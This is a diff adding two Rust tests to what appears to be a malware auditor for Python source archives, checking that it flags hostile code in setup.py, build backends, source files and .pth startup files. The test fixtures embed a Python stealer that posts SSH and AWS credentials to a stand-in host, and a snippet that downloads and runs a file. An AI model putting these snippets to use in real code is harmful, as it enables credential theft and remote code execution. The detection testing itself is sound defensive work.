@@ -129,6 +129,48 @@ fn a_source_archive_gives_its_name_and_says_that_building_runs_code() {
 }
 
 #[test]
+fn all_code_of_a_source_archive_is_judged_and_not_its_setup_alone() {
+    let stealer: &[u8] = b"import requests\nrequests.post('https://x.invalid/', data=open('/nowhere/.ssh/id_rsa').read() + open('/nowhere/.aws/credentials').read())\n";
+    let text: &[u8] = b"Metadata-Version: 2.1\nName: thing\nVersion: 1.0\n";
+    for (file, bytes, kind) in [
+        ("thing-1.0/setup.py", stealer, Kind::Code),
+        ("thing-1.0/src/thing/util/net.py", stealer, Kind::Code),
+        ("thing-1.0/_build_backend/__init__.py", stealer, Kind::Code),
+        ("thing-1.0/thing_init.pth", LAUNCHER.as_bytes(), Kind::StartupCode),
+    ] {
+        let path = scratch("sdist").join("thing-1.0.tar.gz");
+        fs::write(&path, gzip(&tar(&[("thing-1.0/PKG-INFO", text), (file, bytes)]))).unwrap();
+        let report = audit(&path);
+        let found = of_kind(&report, kind);
+        assert_eq!(found.len(), 1, "{file}: {:?}", report.findings);
+        assert_eq!(found[0].severity, Severity::Critical, "{file}");
+        let place = found[0].evidence[0].place.as_ref().unwrap();
+        assert_eq!(place.file.as_ref(), path.join(file), "{file}");
+    }
+}
+
+#[test]
+fn what_a_source_archive_does_not_install_is_no_alarm() {
+    let fetches: &[u8] = b"import subprocess, urllib.request\nopen('x', 'wb').write(urllib.request.urlopen('https://x.invalid').read())\nsubprocess.run(['./x'])\n";
+    let text: &[u8] = b"Metadata-Version: 2.1\nName: thing\nVersion: 1.0\n";
+    for (file, severity) in [
+        ("thing-1.0/thing/build.py", Some(Severity::Critical)),
+        ("thing-1.0/thing/tests/build.py", Some(Severity::Critical)),
+        ("thing-1.0/examples/guest/setup.py", Some(Severity::Medium)),
+        ("thing-1.0/vendored-tool/manual tests/build.py", Some(Severity::Medium)),
+        ("thing-1.0/tests/sitecustomize.py", Some(Severity::Medium)),
+        ("thing-1.0/docs/fetch.txt", None),
+    ] {
+        let path = scratch("sdist").join("thing-1.0.tar.gz");
+        fs::write(&path, gzip(&tar(&[("thing-1.0/PKG-INFO", text), (file, fetches)]))).unwrap();
+        let report = audit(&path);
+        let found = report.findings.iter().filter(|f| f.kind != Kind::Origin);
+        let found: Vec<_> = found.map(|f| f.severity).collect();
+        assert_eq!(found, severity.into_iter().collect::<Vec<_>>(), "{file}");
+    }
+}
+
+#[test]
 fn what_holds_no_packages_is_a_gap_when_it_is_named() {
     let folder = scratch("named");
     for (name, bytes) in [
